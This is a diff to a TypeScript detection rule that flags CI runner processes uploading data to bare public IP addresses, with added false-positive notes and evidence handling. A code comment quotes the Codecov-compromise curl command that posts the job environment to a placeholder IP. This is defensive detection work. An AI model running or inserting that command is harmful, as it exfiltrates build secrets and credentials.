@@ -1,5 +1,9 @@
-// CI runners connecting to public addresses on ports outside the usual egress set.
+// CI runners connecting to public addresses on ports outside the usual egress set, and CI jobs uploading data to a
+// bare public IP address (the Codecov bash-uploader compromise, April 2021, posted each job's environment to a raw
+// IP with `curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://<ip>/upload/v2`; Sigma "Suspicious Curl File
+// Upload - Linux"). Package registries, caches and artifact stores are reached by name, so a raw IP stands out.
 import { tagBaseline } from "../baselines/index.js";
+import { clip, isHttpUpload, isRawIpHost, simpleCommands, urlHost, urlsOf } from "./command-lines.js";
 import { num, processIndex, processLabel, rowsOf, str, tagNumbers } from "../rows.js";
 import { isPublic } from "../net.js";
 import { defineDetection, type DetectionHit } from "./detection.js";
@@ -16,7 +20,7 @@ export const ciRunnerEgress = defineDetection({
   maturity: "experimental",
   category: "exfiltration",
   keywords: ["ci", "ci runner", "runner", "runners", "pipeline", "build agent", "egress", "exfiltration", "supply chain", "github actions"],
-  false_positives: "Builds that pull from registries or caches on non-standard ports (a registry on 5000, a cache on 8080).",
+  false_positives: "Builds that pull from registries or caches on non-standard ports (a registry on 5000, a cache on 8080); a job posting to a self-hosted service by public IP instead of by name.",
   advice: {
     triage: ["Map the connection on {hosts} to the job that ran at the time (repository, workflow, commit)."],
     containment: ["Pause the runner on {hosts} and revoke the tokens the job could read."],
@@ -28,11 +32,32 @@ export const ciRunnerEgress = defineDetection({
     const tagged = new Set(tagNumbers(host.tags, "allowed_egress_ports"));
     const procs = processIndex(host);
     const hits: DetectionHit[] = [];
+    const socketsOf = new Map<string, typeof hits[number]["evidence"]>();
+    for (const row of rowsOf(host, "process_open_sockets")) {
+      const pid = str(row, "pid");
+      socketsOf.set(pid, [...(socketsOf.get(pid) ?? []), { table: "process_open_sockets", row }]);
+    }
+    const uploaders = new Set<string>();
+    for (const proc of rowsOf(host, "processes")) {
+      const cmdline = str(proc, "cmdline");
+      const upload = simpleCommands(cmdline).find((c) => isHttpUpload(c) && urlsOf(c.raw).some((u) => isRawIpHost(urlHost(u)) && isPublic(urlHost(u))));
+      if (upload === undefined) continue;
+      const pid = str(proc, "pid");
+      const url = urlsOf(upload.raw).find((u) => isRawIpHost(urlHost(u)) && isPublic(urlHost(u))) ?? "";
+      uploaders.add(pid);
+      hits.push({
+        summary: `CI runner process ${processLabel(proc, pid)} (pid ${pid}) uploads data to the bare IP address ${urlHost(url)} (${clip(cmdline, 100)}): build secrets or the job environment may be leaving.`,
+        evidence: [{ table: "processes", row: proc }, ...(socketsOf.get(pid) ?? [])],
+        entity: `ip:${urlHost(url)}`,
+        severity: "high",
+      });
+    }
     for (const row of rowsOf(host, "process_open_sockets")) {
       const remote = str(row, "remote_address");
       const port = num(row, "remote_port") ?? 0;
       if (port <= 0 || CI_EGRESS_PORTS.includes(port) || !isPublic(remote)) continue;
       const pid = str(row, "pid");
+      if (uploaders.has(pid)) continue;
       const proc = procs.get(pid);
       if (tagged.has(port)) {
         hits.push({
